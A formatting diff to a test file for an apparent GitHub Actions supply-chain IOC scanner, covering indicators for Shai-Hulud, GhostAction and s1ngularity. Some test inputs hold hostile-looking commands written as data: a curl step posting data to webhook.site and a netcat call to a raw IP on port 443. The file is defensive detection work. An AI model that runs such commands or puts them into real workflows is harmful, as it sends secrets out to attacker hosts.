@@ -41,7 +41,13 @@ test('data/ioc.json satisfies its JSON Schema and the loader, and every entry ci
     assert.match(e.date, /^\d{4}-\d{2}-\d{2}$/, e.id);
   }
   const campaigns = new Set(all.map((e) => e.campaign));
-  for (const c of ['GhostAction', 'Shai-Hulud', 'Shai-Hulud 2.0', 'tj-actions/changed-files', 's1ngularity']) {
+  for (const c of [
+    'GhostAction',
+    'Shai-Hulud',
+    'Shai-Hulud 2.0',
+    'tj-actions/changed-files',
+    's1ngularity',
+  ]) {
     assert.ok(campaigns.has(c), c);
   }
 });
@@ -57,13 +63,17 @@ test('the loader rejects bad entries with one line naming the entry and field, l
     [{ ...raw, domains: [{ ...domains[0], date: 'yesterday' }] }, /domains\[0\]\.date: expected a date/],
     [{ ...raw, domains: [{ ...domains[0], host: 'a b' }] }, /domains\[0\]\.host/],
     [{ ...raw, domains: [{ ...domains[0], severity: 'fatal' }] }, /domains\[0\]\.severity/],
-    [{ ...raw, domains: [domains[0], domains[0]] }, /domains\[1\]\.id: "ghostaction-exfil-host" is used twice/],
+    [
+      { ...raw, domains: [domains[0], domains[0]] },
+      /domains\[1\]\.id: "ghostaction-exfil-host" is used twice/,
+    ],
     [{ ...raw, workflowFiles: [{ ...(raw.workflowFiles as object[])[0], glob: 'a/b.yml' }] }, /glob: a name/],
   ];
   for (const [data, message] of bad) {
     assert.throws(
       () => parseIocData(data, 'iocs.json'),
-      (e: unknown) => e instanceof UserError && message.test(e.message) && e.message.startsWith('iocs.json: '),
+      (e: unknown) =>
+        e instanceof UserError && message.test(e.message) && e.message.startsWith('iocs.json: '),
     );
   }
   // Where the schema can express the rule, it agrees (duplicate ids are a loader-only check).
@@ -85,10 +95,16 @@ test('workflow file names match only with their conditions', () => {
   const iocs = defaultIocs();
   const ids = (path: string, text: string) => matchWorkflowFile(iocs, path, text).map((m) => m.indicator);
   assert.deepEqual(ids('.github/workflows/shai-hulud-workflow.yml', SHAI_HULUD), ['shai-hulud-workflow']);
-  assert.deepEqual(ids('.github/workflows/discussion.yaml', SHA1HULUD_DISCUSSION), ['sha1-hulud-discussion-backdoor']);
-  assert.deepEqual(ids('.github/workflows/discussion.yml', SHA1HULUD_DISCUSSION), ['sha1-hulud-discussion-backdoor']);
+  assert.deepEqual(ids('.github/workflows/discussion.yaml', SHA1HULUD_DISCUSSION), [
+    'sha1-hulud-discussion-backdoor',
+  ]);
+  assert.deepEqual(ids('.github/workflows/discussion.yml', SHA1HULUD_DISCUSSION), [
+    'sha1-hulud-discussion-backdoor',
+  ]);
   assert.deepEqual(ids('.github/workflows/discussion.yaml', BENIGN_DISCUSSION), []);
-  assert.deepEqual(ids('.github/workflows/formatter_123456789.yml', SHA1HULUD_FORMATTER), ['sha1-hulud-formatter']);
+  assert.deepEqual(ids('.github/workflows/formatter_123456789.yml', SHA1HULUD_FORMATTER), [
+    'sha1-hulud-formatter',
+  ]);
   assert.deepEqual(ids('.github/workflows/formatter_check.yml', CI), []);
   assert.deepEqual(ids('.github/workflows/ci.yml', CI), []);
 });
@@ -105,10 +121,20 @@ test('known exfiltration hosts are found in scripts with their line; the most sp
     shai.map((m) => [m.indicator, m.line]),
     [['shai-hulud-webhook', 8]],
   );
-  const other = matchHostsInFile(iocs, 'w.yml', 'on: push\njobs:\n  a:\n    steps:\n      - run: curl https://webhook.site/abc -d x\n');
-  assert.deepEqual(other.map((m) => [m.indicator, m.severity]), [['webhook-site', 'warning']]);
+  const other = matchHostsInFile(
+    iocs,
+    'w.yml',
+    'on: push\njobs:\n  a:\n    steps:\n      - run: curl https://webhook.site/abc -d x\n',
+  );
+  assert.deepEqual(
+    other.map((m) => [m.indicator, m.severity]),
+    [['webhook-site', 'warning']],
+  );
   const plesk = matchHostsInFile(iocs, 'w.yml', 'env:\n  U: other.1-2-3-4.plesk.page\n');
-  assert.deepEqual(plesk.map((m) => m.indicator), ['plesk-preview-host']);
+  assert.deepEqual(
+    plesk.map((m) => m.indicator),
+    ['plesk-preview-host'],
+  );
   assert.deepEqual(matchHostsInFile(iocs, 'w.yml', CI), []);
 });
 
@@ -117,7 +143,9 @@ test('host candidates come from URLs, bare hosts and user@host arguments', () =>
     { host: 'example.com', path: '/x/y' },
   ]);
   assert.deepEqual(
-    hostsIn('ssh git@deploy.example.org ; nc 45.139.104.115 443 ; --url=api.example.com/v1').map((h) => h.host),
+    hostsIn('ssh git@deploy.example.org ; nc 45.139.104.115 443 ; --url=api.example.com/v1').map(
+      (h) => h.host,
+    ),
     ['deploy.example.org', '45.139.104.115', 'api.example.com'],
   );
   assert.deepEqual(hostsIn('echo hello; ls -la; ./run.sh'), []);
@@ -125,9 +153,10 @@ test('host candidates come from URLs, bare hosts and user@host arguments', () =>
 
 test('repository names, globs and findings', () => {
   const iocs = defaultIocs();
-  assert.deepEqual(matchRepository(iocs, 'acme/s1ngularity-repository-0').map((m) => m.indicator), [
-    's1ngularity-repository',
-  ]);
+  assert.deepEqual(
+    matchRepository(iocs, 'acme/s1ngularity-repository-0').map((m) => m.indicator),
+    ['s1ngularity-repository'],
+  );
   assert.deepEqual(matchRepository(iocs, 'acme/api'), []);
   assert.equal(globMatches('formatter_*.yml', 'FORMATTER_1.yml'), true);
   assert.equal(globMatches('a.yml', 'aXyml'), false);
